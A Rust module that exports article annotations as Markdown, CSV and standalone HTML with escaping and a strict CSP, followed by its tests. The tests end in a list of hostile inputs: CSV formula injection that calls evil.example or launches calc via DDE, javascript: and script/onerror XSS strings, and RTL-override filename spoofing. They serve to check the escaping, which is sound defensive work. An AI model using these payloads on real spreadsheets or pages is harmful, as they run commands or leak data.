//! Exports for people: the notes as Markdown (to paste into a draft), CSV (for a spreadsheet) and
//! a standalone, printable HTML page.
//!
//! All three are written from one row model, [`People`]: the article's title, source and date,
//! then each note in article order (orphans last, marked) with its quote, text, tags, colour,
//! times, and the officials and bodies its quoted text mentions, by their fullest names.
//!
//! Every string from the reader or the article is escaped for its format:
//! - CSV follows RFC 4180 (every field quoted, quotes doubled, records ended by CRLF), starts with
//!   a UTF-8 byte order mark so spreadsheet programs read Vietnamese, and a field whose first
//!   non-space character is `=`, `+`, `-`, `@`, tab or CR gets a leading apostrophe so it is never
//!   evaluated as a formula;
//! - Markdown backslash-escapes the characters that make links, images, HTML, emphasis, code,
//!   tables and autolinks (`@`, `://`, `.` before a letter), and what would start a block at a
//!   line's start; a string carrying bidirectional controls is isolated (FSI … PDI) so it cannot
//!   reorder the text after it;
//! - HTML escapes `& < > " '`, puts each reader's string in its own `dir="auto"` block or `<bdi>`,
//!   carries a Content-Security-Policy that allows no script, no request and no form, and needs
//!   no script to be read or printed.
//!
//! The labels of the two interface languages live here, in [`Labels`] (rather than in the UI's
//! string tables), because the native `annotator export` command writes the same documents
//! without the UI; the UI's own date format is [`Labels::time`] too.

use std::fmt::Write;

use super::article::Article;
use super::export::NativeExport;
use super::notes::{Note, NoteColor};
use super::order;
use super::recognize::{EntityKind, Recognizer};

/// The three formats.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PeopleFormat {
    /// Markdown, every string escaped.
    Markdown,
    /// CSV by RFC 4180, with a byte order mark and the formula guard.
    Csv,
    /// A standalone HTML page with a strict Content-Security-Policy.
    Html,
}

impl PeopleFormat {
    /// The file name's extension.
    pub fn extension(self) -> &'static str {
        match self {
            PeopleFormat::Markdown => "md",
            PeopleFormat::Csv => "csv",
            PeopleFormat::Html => "html",
        }
    }

    /// The download's media type.
    pub fn mime(self) -> &'static str {
        match self {
            PeopleFormat::Markdown => "text/markdown;charset=utf-8",
            PeopleFormat::Csv => "text/csv;charset=utf-8",
            PeopleFormat::Html => "text/html;charset=utf-8",
        }
    }
}

/// The words of the exports in one language.
#[derive(Debug)]
pub struct Labels {
    /// BCP 47 tag, for the HTML page's `lang`.
    pub tag: &'static str,
    /// Before the article's title: "Ghi chú: …".
    pub heading: &'static str,
    /// Column names: the article's title, its source URL, its date.
    pub article: &'static str,
    pub source: &'static str,
    pub published: &'static str,
    /// When the export was made; how many notes it has.
    pub exported: &'static str,
    pub count: &'static str,
    /// Before a note's number: "Ghi chú 1".
    pub note: &'static str,
    /// What a note is attached to, and its two values.
    pub attached: &'static str,
    pub paragraph: &'static str,
    pub passage: &'static str,
    /// What an orphan is attached to: nothing in the article as it now reads.
    pub orphan: &'static str,
    /// The heading of the orphans' section.
    pub orphans: &'static str,
    /// Names of a note's fields.
    pub quote: &'static str,
    pub text: &'static str,
    pub tags: &'static str,
    pub color: &'static str,
    /// Names of the note colours, in the order of `NoteColor::ALL`.
    pub colors: [&'static str; 5],
    /// Names of a note's times and of what its quote mentions.
    pub created: &'static str,
    pub modified: &'static str,
    pub officials: &'static str,
    pub bodies: &'static str,
    /// Said when there is no note.
    pub empty: &'static str,
    /// Month abbreviations for dates ("3 Jul 2020"); none for day/month/year.
    pub months: Option<[&'static str; 12]>,
}

/// Vietnamese.
pub static VI: Labels = Labels {
    tag: "vi",
    heading: "Ghi chú",
    article: "Bài viết",
    source: "Nguồn",
    published: "Ngày đăng",
    exported: "Xuất lúc",
    count: "Số ghi chú",
    note: "Ghi chú",
    attached: "Gắn vào",
    paragraph: "Cả đoạn",
    passage: "Đoạn trích",
    orphan: "Không còn tìm thấy trong bài",
    orphans: "Ghi chú không còn tìm thấy chỗ trong bài",
    quote: "Trích dẫn",
    text: "Nội dung",
    tags: "Nhãn",
    color: "Màu",
    colors: ["Vàng", "Xanh lá", "Xanh dương", "Hồng", "Tím"],
    created: "Tạo lúc",
    modified: "Sửa lúc",
    officials: "Quan chức",
    bodies: "Cơ quan, tổ chức",
    empty: "Chưa có ghi chú nào.",
    months: None,
};

/// English.
pub static EN: Labels = Labels {
    tag: "en",
    heading: "Notes",
    article: "Article",
    source: "Source",
    published: "Published",
    exported: "Exported",
    count: "Notes",
    note: "Note",
    attached: "Attached to",
    paragraph: "Whole paragraph",
    passage: "Passage",
    orphan: "No longer found in the article",
    orphans: "Notes whose passage is no longer in the article",
    quote: "Quote",
    text: "Note",
    tags: "Tags",
    color: "Colour",
    colors: ["Yellow", "Green", "Blue", "Pink", "Purple"],
    created: "Created",
    modified: "Modified",
    officials: "Officials",
    bodies: "Public bodies",
    empty: "No notes yet.",
    months: Some([
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ]),
};

/// The labels for a `lang` value: English for `en` and `en-*`, else Vietnamese (as the UI).
pub fn labels(lang: &str) -> &'static Labels {
    if lang == "en" || lang.starts_with("en-") {
        &EN
    } else {
        &VI
    }
}

impl Labels {
    /// An ISO 8601 date or date-time ("2020-07-03", "2020-07-03T19:09:13…") for the reader:
    /// "03/07/2020 19:09" or "3 Jul 2020, 19:09". Anything else is returned as it is.
    pub fn time(&self, iso: &str) -> String {
        let part = |a, b| {
            iso.get(a..b)
                .filter(|p| p.bytes().all(|c| c.is_ascii_digit()))
        };
        let (Some(y), Some(mo), Some(d)) = (part(0, 4), part(5, 7), part(8, 10)) else {
            return iso.to_owned();
        };
        let month = mo.parse::<usize>().ok().and_then(|m| m.checked_sub(1));
        let name = self
            .months
            .zip(month)
            .and_then(|(ms, m)| ms.get(m).copied());
        let mut out = match name {
            Some(m) => [d.strip_prefix('0').unwrap_or(d), " ", m, " ", y].concat(),
            None => [d, "/", mo, "/", y].concat(),
        };
        if let Some(hm) = iso.get(11..16) {
            out += if self.months.is_some() { ", " } else { " " };
            out += hm;
        }
        out
    }
}

/// One note as the three formats show it.
#[derive(Debug)]
pub struct Row<'a> {
    /// The note itself.
    pub note: &'a Note,
    /// The officials (and generic positions) its quoted text mentions: the fullest name, with the
    /// titles written beside it.
    pub officials: Vec<String>,
    /// The bodies its quoted text mentions: the full form, with the abbreviation used.
    pub bodies: Vec<String>,
}

/// The document the three writers write: the article and its notes in order.
#[derive(Debug)]
pub struct People<'a> {
    /// The words of the reader's language.
    pub labels: &'static Labels,
    /// The article's title and URL (none for the bundled or host article).
    pub title: &'a str,
    pub source: Option<&'a str>,
    /// The article's date as the reader reads it.
    pub published: Option<String>,
    /// When the export was made, as the reader reads it (UTC).
    pub exported: String,
    /// Notes in article order, then orphans.
    pub rows: Vec<Row<'a>>,
}

impl<'a> People<'a> {
    /// The rows of `export`'s notes. With the `article` they are in, a note's officials and
    /// bodies are found in its paragraph with the whole article's knowledge (a title alone
    /// names the official named elsewhere); without it (or for an orphan), in its quote, read
    /// together with the other quotes and the title.
    pub fn new(
        export: &'a NativeExport,
        article: Option<&Article>,
        recognizer: &Recognizer,
        labels: &'static Labels,
    ) -> People<'a> {
        // In article order (start, end, then the order written), orphans last: keys side by
        // side, sorted as the recogniser sorts its spans.
        const ORPHAN: usize = 1 << 30;
        let mut order: Vec<(usize, usize, usize)> = Vec::with_capacity(export.annotations.len());
        for (i, n) in export.annotations.iter().enumerate() {
            let p = n.target.position;
            order.push((
                p.start.min(ORPHAN - 1) | (usize::from(n.orphan) * ORPHAN),
                p.end,
                i,
            ));
        }
        order::sort(&mut order);
        // The texts recognised as one article: the title, the article's paragraphs, then the
        // quote of each note not placed in them. Each note looks at one of them (`text`), in
        // code points `a..b` of it.
        let paragraphs = article.map(|a| a.paragraphs.as_slice()).unwrap_or_default();
        let starts = article.map(Article::paragraph_starts).unwrap_or_default();
        let mut texts: Vec<&str> = vec![&export.article.title];
        texts.extend(paragraphs.iter().map(|p| p.text.as_str()));
        let mut looks = Vec::with_capacity(order.len());
        for &(_, _, i) in &order {
            let Some(n) = export.annotations.get(i) else {
                continue;
            };
            let t = &n.target;
            let placed = paragraphs.iter().position(|p| p.id == t.paragraph);
            let (mut text, mut a, mut b) = (texts.len(), 0, usize::MAX);
            match placed.and_then(|p| Some((p, *starts.get(p)?))) {
                Some((p, at)) if !n.orphan => {
                    text = p + 1;
                    if t.passage {
                        (a, b) = (
                            t.position.start.saturating_sub(at),
                            t.position.end.saturating_sub(at),
                        );
                    }
                }
                _ => texts.push(&t.quote.exact),
            }
            looks.push((n, text, a, b));
        }
        let rec = recognizer.recognize(&texts);
        let mut rows = Vec::with_capacity(looks.len());
        for (note, text, a, b) in looks {
            let mut seen: Vec<usize> = Vec::new();
            for m in rec
                .mentions
                .get(text)
                .map(Vec::as_slice)
                .unwrap_or_default()
            {
                if m.start < b && a < m.end && !seen.contains(&m.entity) {
                    seen.push(m.entity);
                }
            }
            let (mut officials, mut bodies) = (Vec::new(), Vec::new());
            for e in seen.iter().filter_map(|&i| rec.entities.get(i)) {
                // "Mặt trận Tổ quốc tỉnh (MTTQ tỉnh)"; "Phạm Xuân Thăng (Phó Bí thư …)".
                let (mut name, more) = match &e.expansion {
                    Some(full) => (full.clone(), e.name.clone()),
                    None => (e.name.clone(), e.titles.join(", ")),
                };
                if !more.is_empty() {
                    put(&mut name, &[" (", &more, ")"]);
                }
                match e.kind {
                    EntityKind::Body => bodies.push(name),
                    _ => officials.push(name),
                }
            }
            rows.push(Row {
                note,
                officials,
                bodies,
            });
        }
        People {
            labels,
            title: &export.article.title,
            source: export.article.source.as_deref(),
            published: article
                .and_then(|a| a.date.as_ref())
                .map(|d| labels.time(&d.iso())),
            exported: labels.time(&export.exported.iso()) + " UTC",
            rows,
        }
    }

    /// The names of a row's fields, in the CSV's column order after the article's columns.
    fn columns(&self) -> [&'static str; 10] {
        let l = self.labels;
        [
            l.attached,
            l.quote,
            l.text,
            l.tags,
            l.color,
            l.created,
            l.modified,
            l.officials,
            l.bodies,
            "ID",
        ]
    }

    /// The fields of one row, in the order of [`People::columns`].
    fn fields(&self, row: &Row<'_>) -> [String; 10] {
        let (l, n) = (self.labels, row.note);
        let attached = match (n.orphan, n.target.passage) {
            (true, _) => l.orphan,
            (_, true) => l.passage,
            _ => l.paragraph,
        };
        let color = NoteColor::ALL.iter().position(|&c| Some(c) == n.color);
        [
            attached.to_owned(),
            n.target.quote.exact.clone(),
            n.text.clone(),
            n.tags.join(", "),
            color
                .and_then(|i| l.colors.get(i))
                .copied()
                .unwrap_or_default()
                .to_owned(),
            l.time(&n.created.iso()) + " UTC",
            l.time(&n.modified.iso()) + " UTC",
            row.officials.join("; "),
            row.bodies.join("; "),
            n.id.to_string(),
        ]
    }

    /// The document in `format`.
    pub fn write(&self, format: PeopleFormat) -> String {
        if format == PeopleFormat::Csv {
            return self.csv();
        }
        // Markdown and HTML walk the same document, each with its own pieces of markup.
        let (l, md) = (self.labels, format == PeopleFormat::Markdown);
        let m = &MARKUP[usize::from(!md)];
        let mut out = String::new();
        let text = |out: &mut String, s: &str, block: Option<&str>| escape(out, s, format, block);
        if !md {
            put(&mut out, &[HTML_HEAD, l.tag, HTML_META, l.heading, ": "]);
            text(&mut out, self.title, None);
            out += HTML_STYLE;
        }
        put(&mut out, &[m[0], l.heading, ": "]);
        text(&mut out, self.title, None);
        out += m[1];
        let fact = |out: &mut String, k: &str, v: &str| {
            put(out, &[m[2], k, m[3]]);
            text(out, v, None);
            *out += m[4];
        };
        let count = number(self.rows.len());
        let facts = [
            (l.source, self.source),
            (l.published, self.published.as_deref()),
            (l.exported, Some(self.exported.as_str())),
            (l.count, Some(count.as_str())),
        ];
        for (k, v) in facts {
            if let Some(v) = v {
                fact(&mut out, k, v);
            }
        }
        if self.rows.is_empty() {
            put(&mut out, &[m[5], l.empty, m[6]]);
        }
        let mut orphans = false;
        for (i, row) in self.rows.iter().enumerate() {
            if row.note.orphan && !std::mem::replace(&mut orphans, true) {
                put(&mut out, &[m[7], l.orphans, m[8]]);
            }
            let [attached, quote, note, rest @ ..] = self.fields(row);
            let color = match row.note.color {
                _ if md => "",
                Some(c) => c.as_str(),
                None => "none",
            };
            put(
                &mut out,
                &[
                    m[9],
                    color,
                    m[10],
                    l.note,
                    " ",
                    &number(i + 1),
                    ". ",
                    &attached,
                    m[11],
                ],
            );
            text(&mut out, &quote, Some("> "));
            out += m[12];
            text(&mut out, &note, Some(""));
            out += m[13];
            for (k, v) in self.columns()[3..].iter().zip(&rest) {
                if !v.is_empty() {
                    fact(&mut out, k, v);
                }
            }
            out += m[14];
        }
        out += m[15];
        out
    }

    /// CSV (RFC 4180): a header, then one record per note with the article's columns repeated,
    /// so that each record stands alone in a spreadsheet.
    fn csv(&self) -> String {
        let l = self.labels;
        let mut out = String::from("\u{feff}");
        let mut record = |cells: &[&str]| {
            for (i, cell) in cells.iter().enumerate() {
                out += if i == 0 { "\"" } else { ",\"" };
                escape(&mut out, cell, PeopleFormat::Csv, None);
                out.push('"');
            }
            out += "\r\n";
        };
        let mut cells = vec!["#", l.article, l.source, l.published];
        cells.extend(self.columns());
        record(&cells);
        let published = self.published.as_deref().unwrap_or_default();
        for (i, row) in self.rows.iter().enumerate() {
            let (n, fields) = (number(i + 1), self.fields(row));
            let mut cells = vec![
                n.as_str(),
                self.title,
                self.source.unwrap_or_default(),
                published,
            ];
            cells.extend(fields.iter().map(String::as_str));
            record(&cells);
        }
        out
    }
}

/// `n` in decimal.
fn number(n: usize) -> String {
    let mut out = String::new();
    let _ = write!(out, "{n}");
    out
}

/// Markdown's pieces of markup, then HTML's, in the order [`People::write`] puts them.
const MARKUP: [[&str; 16]; 2] = [
    [
        "# ", "\n\n", "- ", ": ", "\n", "\n", "\n", "\n## ", "\n", "\n## ", "", "\n\n> ", "\n\n",
        "\n\n", "", "",
    ],
    [
        "<h1 dir=\"auto\">",
        "</h1>\n",
        "<p dir=\"auto\"><b>",
        ":</b> ",
        "</p>\n",
        "<p>",
        "</p>\n",
        "<h2>",
        "</h2>\n",
        "<section class=\"n c-",
        "\">\n<h2>",
        "</h2>\n<blockquote dir=\"auto\">",
        "</blockquote>\n<p class=\"t\" dir=\"auto\">",
        "</p>\n",
        "</section>\n",
        "</body>\n</html>\n",
    ],
];

/// Appends every piece.
#[inline(never)]
fn put(out: &mut String, pieces: &[&str]) {
    for p in pieces {
        out.push_str(p);
    }
}

/// The HTML page up to its language, then to its title, then from its title to its heading.
const HTML_HEAD: &str = "<!DOCTYPE html>\n<html lang=\"";
const HTML_META: &str = concat!(
    "\">\n<head>\n<meta charset=\"utf-8\">\n<meta http-equiv=\"Content-Security-Policy\" content=\"",
    "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'",
    "\">\n<meta name=\"referrer\" content=\"no-referrer\">\n",
    "<meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n<title>"
);
/// The page's style: readable on screen and on paper, long words wrapped, a note's colour its
/// border.
const HTML_STYLE: &str = concat!(
    "</title>\n<style>body{font:16px/1.5 sans-serif;max-width:46rem;margin:auto;padding:1rem}",
    "blockquote,p{white-space:pre-wrap;overflow-wrap:anywhere}blockquote{margin:0;padding-left:1rem;",
    "border-left:2px solid #999}.n{border-left:6px solid #ddd;padding-left:1rem;break-inside:avoid}",
    ".c-yellow{border-color:#e6c200}.c-green{border-color:#2e9e4f}.c-blue{border-color:#2f6fd6}",
    ".c-pink{border-color:#d6458f}.c-purple{border-color:#7d4cc9}</style>\n</head>\n<body>\n"
);

/// The HTML page's policy: nothing loads, nothing runs, nothing is sent; inline style only.
pub const CSP: &str =
    "default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'";

/// Appends `s` escaped for `format`. Line breaks (CRLF, CR, LF, NEL, LS, PS) are LF in CSV and
/// HTML; in Markdown, spaces on one line (`block` none), else hard breaks, blank lines paragraph
/// breaks, each line after `block` (a quote's "> "), leading indentation dropped.
fn escape(out: &mut String, s: &str, format: PeopleFormat, block: Option<&str>) {
    let md = format == PeopleFormat::Markdown;
    // Bidirectional controls cannot reorder what follows an isolated string (HTML puts each
    // string in its own block instead).
    let isolate = md
        && s.chars().any(|c| {
            matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        });
    if isolate {
        out.push('\u{2068}');
    }
    let lead = s.bytes().find(|&b| b != b' ').unwrap_or_default();
    if format == PeopleFormat::Csv && b"=+-@\t\r".contains(&lead) {
        out.push('\'');
    }
    // Line breaks seen since the last character written; at a line's start; only digits on the
    // line so far; the character before.
    let (mut breaks, mut first, mut digits, mut prev) = (0, true, true, ' ');
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}') {
            if c == '\r' && chars.peek() == Some(&'\n') {
                chars.next();
            }
            if md {
                breaks += 1;
                (first, digits) = (true, true);
            } else {
                out.push('\n');
            }
            continue;
        }
        if md && first {
            if c.is_whitespace() {
                continue;
            }
            match block {
                _ if breaks == 0 => {}
                None => out.push(' '),
                Some(prefix) if breaks == 1 => {
                    *out += "\\\n";
                    *out += prefix;
                }
                Some(prefix) => {
                    out.push('\n');
                    *out += prefix.strip_suffix(' ').unwrap_or(prefix);
                    out.push('\n');
                    *out += prefix;
                }
            }
            breaks = 0;
        }
        let next = chars.peek().copied();
        match (format, c) {
            (PeopleFormat::Html, '&') => *out += "&amp;",
            (PeopleFormat::Html, '<') => *out += "&lt;",
            (PeopleFormat::Html, '>') => *out += "&gt;",
            (PeopleFormat::Html, '"') => *out += "&quot;",
            (PeopleFormat::Html, '\'') => *out += "&#39;",
            (PeopleFormat::Csv, '"') => *out += "\"\"",
            (PeopleFormat::Markdown, _) => {
                let escaped = match c {
                    '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '&' | '!' | '|' | '~'
                    | '#' | '$' | '@' | '^' => true,
                    // "http://"; "example.com" (not "3.7"); an ordered list's "1." or "1)".
                    ':' => next == Some('/'),
                    '.' | ')' if digits && !first => true,
                    '.' => next.is_some_and(char::is_alphanumeric) && !prev.is_ascii_digit(),
                    '-' | '+' | '=' => first,
                    _ => false,
                };
                if escaped {
                    out.push('\\');
                }
                out.push(c);
            }
            _ => out.push(c),
        }
        digits &= c.is_ascii_digit();
        (prev, first) = (c, false);
    }
    if isolate {
        out.push('\u{2069}');
    }
}

/// `export` in `format`, in the language `lang` (`vi` or `en`): what the widget's menu, its
/// element methods and `annotator export` all call.
pub fn people_export(
    format: PeopleFormat,
    export: &NativeExport,
    article: Option<&Article>,
    recognizer: &Recognizer,
    lang: &str,
) -> String {
    People::new(export, article, recognizer, labels(lang)).write(format)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::article::SEED_ARTICLE;
    use crate::core::export::ExportArticle;
    use crate::core::notes::{NoteId, Target, Timestamp};

    /// 2026-11-28T08:05:00Z.
    const T0: u64 = 1_795_853_100_000;

    fn seed() -> Article {
        Article::parse(SEED_ARTICLE).expect("seed parses")
    }

    fn note(n: u8, target: Target, text: &str, tags: &[&str], color: Option<NoteColor>) -> Note {
        Note {
            id: NoteId::from_random_bytes([n; 16]),
            target,
            text: text.into(),
            tags: tags.iter().map(|t| t.to_string()).collect(),
            created: Timestamp(T0 + u64::from(n) * 60_000),
            modified: Timestamp(T0 + u64::from(n) * 120_000),
            orphan: false,
            color,
        }
    }

    /// The paragraph of the seed whose text starts with `head`, as (id, text).
    #[track_caller]
    fn paragraph(a: &Article, head: &str) -> (String, String) {
        let p = a
            .paragraphs
            .iter()
            .find(|p| p.text.starts_with(head))
            .expect("paragraph");
        (p.id.clone(), p.text.clone())
    }

    /// The seed's two sample notes: a passage naming the official in full, and (written first) a
    /// whole paragraph that names him by his title only.
    fn sample(a: &Article) -> NativeExport {
        let (pid, text) = paragraph(a, "Chiều 3.7");
        let at = text.find("đồng chí Phạm").expect("name");
        let end = text.find(" chủ trì").expect("end");
        let (s, e) = (text[..at].chars().count(), text[..end].chars().count());
        let passage = a.passage_target(&pid, s, e).expect("passage");
        let (later, _) = paragraph(
            a,
            "Đồng chí Phó Bí thư Thường trực Tỉnh ủy yêu cầu các ban xây dựng Đảng và",
        );
        let whole = a.paragraph_target(&later).expect("paragraph");
        NativeExport::new(
            ExportArticle {
                id: "a-seed".into(),
                title: a.title.clone(),
                source: Some("https://baohaiduong.vn/bai-1.html".into()),
            },
            vec![
                note(2, whole, "Hạn chót: cuối quý III", &["tiến độ"], None),
                note(
                    1,
                    passage,
                    "Ai chủ trì?\nĐối chiếu với biên bản",
                    &["nhân sự", "cần kiểm tra"],
                    Some(NoteColor::Yellow),
                ),
            ],
            Timestamp(T0 + 3_600_000),
        )
    }

    fn write(
        export: &NativeExport,
        article: Option<&Article>,
        lang: &str,
        format: PeopleFormat,
    ) -> String {
        people_export(format, export, article, &Recognizer::default(), lang)
    }

    #[track_caller]
    fn assert_contains(haystack: &str, needles: &[&str]) {
        for n in needles {
            assert!(
                haystack.contains(n),
                "missing {n:?} in:\n{}",
                haystack.chars().take(3000).collect::<String>()
            );
        }
    }

    #[track_caller]
    fn assert_before(haystack: &str, first: &str, then: &str) {
        let (a, b) = (haystack.find(first), haystack.find(then));
        assert!(
            a.is_some() && b.is_some() && a < b,
            "{first:?} should come before {then:?}"
        );
    }

    /// Reads CSV by RFC 4180: records of fields; panics on anything malformed.
    #[track_caller]
    fn parse_csv(csv: &str) -> Vec<Vec<String>> {
        let body = csv.strip_prefix('\u{feff}').expect("a UTF-8 BOM first");
        let (mut records, mut record, mut field) = (Vec::new(), Vec::new(), String::new());
        let mut chars = body.chars().peekable();
        while let Some(c) = chars.next() {
            assert_eq!(c, '"', "every field is quoted");
            loop {
                match chars.next().expect("a closed quote") {
                    '"' if chars.peek() == Some(&'"') => {
                        chars.next();
                        field.push('"');
                    }
                    '"' => break,
                    c => field.push(c),
                }
            }
            record.push(std::mem::take(&mut field));
            match chars.next() {
                Some(',') => {}
                Some('\r') => {
                    assert_eq!(chars.next(), Some('\n'), "records end with CRLF");
                    records.push(std::mem::take(&mut record));
                }
                other => panic!("unexpected {other:?} after a field"),
            }
        }
        assert!(record.is_empty(), "the last record ends with CRLF");
        records
    }

    /// Every tag in the page is one the writer makes, with only its attributes.
    #[track_caller]
    fn assert_html_safe(html: &str) {
        const ALLOWED: [&str; 25] = [
            "!DOCTYPE html>",
            "html lang=\"vi\">",
            "html lang=\"en\">",
            "/html>",
            "head>",
            "/head>",
            "meta ",
            "title>",
            "/title>",
            "style>",
            "/style>",
            "body>",
            "/body>",
            "h1 dir=\"auto\">",
            "/h1>",
            "h2>",
            "/h2>",
            "b>",
            "/b>",
            "p",
            "/p>",
            "section class=\"n c-",
            "/section>",
            "blockquote dir=\"auto\">",
            "/blockquote>",
        ];
        for (i, _) in html.match_indices('<') {
            let rest = &html[i + 1..];
            assert!(
                ALLOWED.iter().any(|t| rest.starts_with(t)),
                "unexpected markup at {}",
                rest.chars().take(40).collect::<String>()
            );
            if let Some(p) = rest.strip_prefix('p') {
                assert!(
                    p.starts_with('>')
                        || p.starts_with(" class=\"t\" dir=\"auto\">")
                        || p.starts_with(" dir=\"auto\"><b>"),
                    "a <p> of ours"
                );
            }
            if rest.starts_with("meta ") {
                let end = rest.find('>').expect("closed");
                assert!(!rest[..end].contains('<'), "no markup inside a meta");
            }
        }
        assert!(!html.to_ascii_lowercase().contains("<script"), "no script");
        assert_contains(html, &[&format!("content=\"{CSP}\"")]);
    }

    /// No character that makes Markdown markup stands unescaped: no link, image, HTML, code,
    /// emphasis, table or autolink can come from the text.
    #[track_caller]
    fn assert_markdown_safe(md: &str) {
        for line in md.lines() {
            // Our own markup: headings, list items' "- Label: ", quotes' "> ".
            let content = line
                .strip_prefix('>')
                .map(|l| l.strip_prefix(' ').unwrap_or(l))
                .or_else(|| {
                    line.strip_prefix("- ")
                        .map(|l| l.split_once(": ").map_or(l, |(_, v)| v))
                })
                .or_else(|| line.trim_start_matches('#').strip_prefix(' '))
                .unwrap_or(line);
            let chars: Vec<char> = content.chars().collect();
            let mut i = 0;
            while i < chars.len() {
                let c = chars[i];
                if c == '\\' {
                    i += 2;
                    continue;
                }
                assert!(
                    !"`*_[]<>&!|~#$@^".contains(c),
                    "unescaped {c:?} in {line:?}"
                );
                assert!(
                    !(c == ':' && chars.get(i + 1) == Some(&'/')),
                    "an autolink in {line:?}"
                );
                assert!(
                    !(c == '.' && chars.get(i + 1).is_some_and(|n| n.is_alphabetic())),
                    "a bare domain in {line:?}"
                );
                i += 1;
            }
            if let Some(&first) = chars.first() {
                assert!(
                    !"-+=".contains(first) || content.is_empty(),
                    "a block marker in {line:?}"
                );
            }
        }
    }

    #[test]
    fn seed_notes_in_article_order_with_their_officials_and_bodies() {
        let a = seed();
        let export = sample(&a);
        for (lang, date, labels) in [
            (
                "vi",
                "03/07/2020 19:09",
                [
                    "Đoạn trích",
                    "Cả đoạn",
                    "Quan chức",
                    "Cơ quan, tổ chức",
                    "Vàng",
                ],
            ),
            (
                "en",
                "3 Jul 2020, 19:09",
                [
                    "Passage",
                    "Whole paragraph",
                    "Officials",
                    "Public bodies",
                    "Yellow",
                ],
            ),
        ] {
            let thang = "Phạm Xuân Thăng (Phó Bí thư Thường trực Tỉnh ủy)";
            for format in [
                PeopleFormat::Markdown,
                PeopleFormat::Csv,
                PeopleFormat::Html,
            ] {
                let out = write(&export, Some(&a), lang, format);
                if std::env::var_os("SHOW_PEOPLE_EXPORT").is_some() {
                    eprintln!("{out}");
                }
                assert_contains(&out, &labels);
                assert_contains(
                    &out,
                    &[date, thang, "Thường trực Tỉnh ủy", "baohaiduong", "tiến độ"],
                );
                assert_before(&out, "Ai chủ trì", "Hạn chót");
            }
            let html = write(&export, Some(&a), lang, PeopleFormat::Html);
            assert_contains(
                &html,
                &[
                    "<section class=\"n c-yellow\">",
                    "<section class=\"n c-none\">",
                ],
            );
            assert!(!write(&export, Some(&a), lang, PeopleFormat::Markdown).contains("yellow"));
            let csv = parse_csv(&write(&export, Some(&a), lang, PeopleFormat::Csv));
            assert_eq!(csv.len(), 3, "a header and two notes");
            assert!(
                csv.iter().all(|r| r.len() == 14),
                "14 columns in every record"
            );
            assert_eq!(
                csv[1][6], "Ai chủ trì?\nĐối chiếu với biên bản",
                "line breaks kept inside the field"
            );
            assert_eq!(csv[1][7], "nhân sự, cần kiểm tra");
            // The later paragraph names him by his title alone: the article says who he is.
            assert!(csv[2][11].starts_with(thang), "{lang}: {}", csv[2][11]);
            assert!(
                csv[2][11].ends_with("; Ủy viên Ban Thường vụ Tỉnh ủy"),
                "{lang}: a generic position"
            );
            assert!(
                csv[2][12].contains("Ban Chấp hành Đảng bộ tỉnh"),
                "{}",
                csv[2][12]
            );
        }
    }

    #[test]
    fn without_the_article_entities_come_from_the_quotes() {
        let a = seed();
        let export = sample(&a);
        let csv = parse_csv(&write(&export, None, "vi", PeopleFormat::Csv));
        assert_eq!(csv[0][3], "Ngày đăng");
        assert_eq!(csv[1][3], "", "no date without the article");
        let thang = "Phạm Xuân Thăng (Phó Bí thư Thường trực Tỉnh ủy)";
        assert_eq!(csv[1][11], thang);
        assert_eq!(
            csv[1][12], "",
            "the body in the passage is part of his title"
        );
        // The quotes are read together: the title alone in one names the man named in the other.
        assert!(csv[2][11].starts_with(thang), "{:?}", csv[2][11]);
        assert!(
            csv[2][12].starts_with("Ban Chấp hành Đảng bộ tỉnh; Ban Thường vụ Tỉnh ủy"),
            "{:?}",
            csv[2][12]
        );
    }

    #[test]
    fn orphans_come_last_and_marked() {
        let a = seed();
        let mut export = sample(&a);
        let mut lost = export.annotations[0].clone();
        lost.id = NoteId::from_random_bytes([9; 16]);
        lost.orphan = true;
        lost.text = "Đoạn này đã bị xóa".into();
        lost.target.position.start = 0;
        lost.target.quote.exact = "UBND tỉnh đã họp".into();
        export.annotations.insert(0, lost);
        for (lang, heading, mark) in [
            (
                "vi",
                "Ghi chú không còn tìm thấy chỗ trong bài",
                "Không còn tìm thấy trong bài",
            ),
            (
                "en",
                "Notes whose passage is no longer in the article",
                "No longer found in the article",
            ),
        ] {
            for format in [PeopleFormat::Markdown, PeopleFormat::Html] {
                let out = write(&export, Some(&a), lang, format);
                assert_before(&out, "Hạn chót", heading);
                assert_before(&out, heading, "Đoạn này đã bị xóa");
                assert_contains(&out, &[mark, "Ủy ban nhân dân tỉnh (UBND tỉnh)"]);
            }
            let csv = parse_csv(&write(&export, Some(&a), lang, PeopleFormat::Csv));
            assert_eq!(csv[3][4], mark);
            assert_eq!(csv[3][6], "Đoạn này đã bị xóa");
            assert_eq!(
                csv[3][12], "Ủy ban nhân dân tỉnh (UBND tỉnh)",
                "an orphan's quote is read alone"
            );
        }
    }

    /// Hostile strings: each goes into a note's text, its tags and the article's title.
    const HOSTILE: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        "[click](javascript:alert(1)) ![img](http://evil.example/x.png) <http://evil.example>",
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "www.evil.example and https://evil.example and mail me@evil.example",
        "# heading\n- item\n1. first\n> quote\n    code\n---\n===\n| a | b |\n```\nfenced",
        "*em* _em_ **strong** `code` ~~del~~ $x$ ^sup^ &lt;b&gt; &amp; \\[not\\]",
        "\"quoted\", 'single', comma, and \"\"doubled\"\"",
        "line one\r\nline two\rline three\u{2028}line four\n\nnew paragraph",
        "RTL \u{202e}gnp.exe\u{202c} and \u{2067}isolate and עברית العربية",
        "zero\u{200b}width\u{200c}joiner\u{200d}\u{feff}bom",
